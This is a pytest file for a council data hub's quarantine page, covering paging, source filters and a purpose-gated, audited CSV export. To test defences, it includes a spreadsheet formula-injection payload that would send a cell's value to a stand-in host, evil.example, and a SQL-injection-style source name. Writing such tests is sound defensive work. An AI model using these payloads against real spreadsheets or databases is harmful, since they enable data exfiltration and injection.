"""Information governance's quarantine page: every source's count and extract, a source at a time, a page at a
time, and an export that asks why (and says so on the page, keeping the choice)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, insert, select
from sqlalchemy.orm import Session

from tests.conftest import form_token
from tests.identity.factories import signed_in
from townhall.datahub.models import IngestBatch, QuarantinedRow
from townhall.datahub.service import quarantine_summary
from townhall.platform.audit.models import AuditEntry

pytestmark = pytest.mark.slow


def _hold_back(session: Session, source: str, rows: int) -> int:
    """Quarantine ``rows`` rows of a new batch of ``source`` (newer than every extract so far); its id."""
    batch = session.scalars(select(IngestBatch).where(IngestBatch.source == source).order_by(IngestBatch.id)).first()
    assert batch is not None
    copy = IngestBatch(source=source, file_name=f"{source}-bad.csv", ingested_at=batch.ingested_at,
                       rows_read=rows, rows_loaded=0, rows_quarantined=rows, uprns_matched={},
                       contract=batch.contract)  # fmt: skip
    session.add(copy)
    session.flush()
    session.execute(
        insert(QuarantinedRow),
        [{"batch_id": copy.id, "source": source, "row_number": n, "reason": f"bad row {n}", "raw": {"ID": str(n)}}
         for n in range(1, rows + 1)],
    )  # fmt: skip
    return copy.id


def test_the_summary_shows_every_source_even_after_one_large_bad_extract(client: TestClient, session: Session) -> None:
    before = {held.source: held.rows for held in quarantine_summary(session)}
    _hold_back(session, "housing_tenancies", 450)
    signed_in(client, session, role="ig_officer")
    page = client.get("/datahub/quarantine")
    assert page.status_code == 200
    total = sum(before.values()) + 450
    assert "Rows held back, by source" in page.text and "housing_tenancies-bad.csv" in page.text
    for source in before:
        assert f'href="/datahub/quarantine?source={source}"' in page.text
    assert f"Rows 1 to 200 of {total:,} from all sources, newest extract first" in page.text
    assert 'class="th-pagination"' in page.text and 'href="/datahub/quarantine?page=2"' in page.text
    assert "most recent" not in page.text


def test_the_source_filter_and_paging(client: TestClient, session: Session) -> None:
    _hold_back(session, "council_tax", 450)
    held = session.scalar(
        select(func.count()).select_from(QuarantinedRow).where(QuarantinedRow.source == "council_tax")
    )
    signed_in(client, session, role="ig_officer")
    first = client.get("/datahub/quarantine?source=council_tax")
    assert f"Rows 1 to 200 of {held:,} from council_tax" in first.text
    assert '<option value="council_tax" selected>' in first.text
    last_page = -(-held // 200)
    last = client.get(f"/datahub/quarantine?source=council_tax&page={last_page}")
    assert f"of {held:,} from council_tax" in last.text and "Next" not in last.text.split("th-pagination")[-1]
    assert 'href="/datahub/quarantine?source=council_tax&amp;page=1"' in last.text
    beyond = client.get("/datahub/quarantine?source=council_tax&page=999")
    assert beyond.status_code == 200 and f"of {held:,} from council_tax" in beyond.text
    nothing = client.get("/datahub/quarantine?source=parking")
    assert nothing.status_code == 200 and "Nothing from parking is held back" in nothing.text


def test_an_export_without_a_purpose_asks_again_on_the_page_keeping_the_source(
    client: TestClient, session: Session
) -> None:
    _hold_back(session, "council_tax", 3)
    signed_in(client, session, role="ig_officer")
    token = form_token(client, "/datahub/quarantine?source=council_tax")
    refused = client.post(
        "/datahub/quarantine.csv", data={"purpose": " ", "source": "council_tax", "csrf_token": token}
    )
    assert refused.status_code == 422 and "There is a problem" in refused.text
    assert 'href="#purpose"' in refused.text and 'id="purpose-error"' in refused.text
    assert "Rows held back at ingestion" in refused.text and "from council_tax" in refused.text
    export = client.post(
        "/datahub/quarantine.csv", data={"purpose": "Fix the extract", "source": "council_tax", "csrf_token": token}
    )
    assert export.status_code == 200
    assert export.headers["content-disposition"] == 'attachment; filename="datahub-quarantine-council_tax.csv"'
    sources = {line.split(",")[0] for line in export.text.splitlines()[1:]}
    assert sources == {"council_tax"}
    entry = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
    assert entry is not None and (entry.action, entry.subject_id) == ("export_quarantine", "council_tax")


def test_the_export_never_lets_a_spreadsheet_run_a_quarantined_value_as_a_formula(
    client: TestClient, session: Session
) -> None:
    # quarantined rows are exactly the input nobody has vetted: an IG officer opens the export in a spreadsheet
    batch = _hold_back(session, "council_tax", 1)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    session.execute(
        insert(QuarantinedRow),
        [{"batch_id": batch, "source": "council_tax", "row_number": 2, "reason": "@SUM(1+1)", "raw": {"ID": formula}}],
    )
    signed_in(client, session, role="ig_officer")
    token = form_token(client, "/datahub/quarantine")
    export = client.post("/datahub/quarantine.csv", data={"purpose": "Fix the extract", "csrf_token": token})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    [row] = [r for r in rows if r[2] == "2" and r[1] == str(batch)]
    assert row[3] == "'@SUM(1+1)" and row[4] == "'" + formula


def test_a_page_number_in_other_digits_shows_the_first_page(client: TestClient, session: Session) -> None:
    signed_in(client, session, role="ig_officer")
    assert client.get("/datahub/quarantine", params={"page": "²"}).status_code == 200  # int("²") fails


def test_a_source_name_that_cannot_be_a_source_is_refused_not_taken_for_all_of_them(
    client: TestClient, session: Session
) -> None:
    _hold_back(session, "council_tax", 3)
    _hold_back(session, "school_attendance", 3)
    signed_in(client, session, role="ig_officer")
    token = form_token(client, "/datahub/quarantine")
    assert "30 days after their extract was ingested" in client.get("/datahub/quarantine").text
    written_loosely = client.post(
        "/datahub/quarantine.csv", data={"purpose": "Fix the extract", "source": "Council-Tax", "csrf_token": token}
    )
    assert written_loosely.status_code == 200
    assert {line.split(",")[0] for line in written_loosely.text.splitlines()[1:]} == {"council_tax"}
    for name in ("council tax!", "Council_Tax; DROP"):
        refused = client.post(
            "/datahub/quarantine.csv", data={"purpose": "Fix the extract", "source": name, "csrf_token": token}
        )
        assert refused.status_code == 422 and "There is no source called" in refused.text
        assert "school_attendance," not in refused.text
    assert client.get("/datahub/quarantine?source=council+tax%21").status_code == 422
